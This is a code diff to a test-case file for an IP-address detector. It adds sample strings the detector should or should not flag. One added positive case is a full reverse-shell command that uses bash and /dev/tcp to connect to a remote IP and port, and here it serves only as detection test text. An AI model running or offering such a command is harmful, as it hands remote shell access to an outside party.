@@ -2,6 +2,9 @@ import type { DetectorCases } from '../../detector-cases.ts';
 
 export const cases: DetectorCases = {
   positive: [
+    '<ip>«84.17.52.190»</ip>',
+    'if (ip == "«84.17.52.190»")',
+    'bash -i >& /dev/tcp/«84.17.52.190»/4242',
     'client «84.17.52.190» connected',
     'host=«192.168.1.77»',
     'http://«10.20.30.40»:8080/health',
@@ -14,6 +17,8 @@ export const cases: DetectorCases = {
   ],
   possible: ['example «192.0.2.44»', 'from «2001:db8::1»', 'resolver «8.8.8.8»', '«1.2.3.4»'],
   negative: [
+    'package==10.20.30.40',
+    '>=10.20.30.40',
     'listen 127.0.0.1:80',
     '0.0.0.0',
     '::1',
